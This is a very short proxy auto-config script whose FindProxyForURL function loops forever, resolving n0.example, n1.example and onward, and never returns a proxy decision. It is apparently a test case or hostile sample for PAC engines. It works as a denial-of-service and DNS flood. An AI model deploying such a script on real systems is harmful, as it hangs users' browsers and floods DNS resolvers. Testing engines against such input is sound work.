function FindProxyForURL(url, host) {
  for (var i = 0; ; i++) dnsResolve("n" + i + ".example");
}
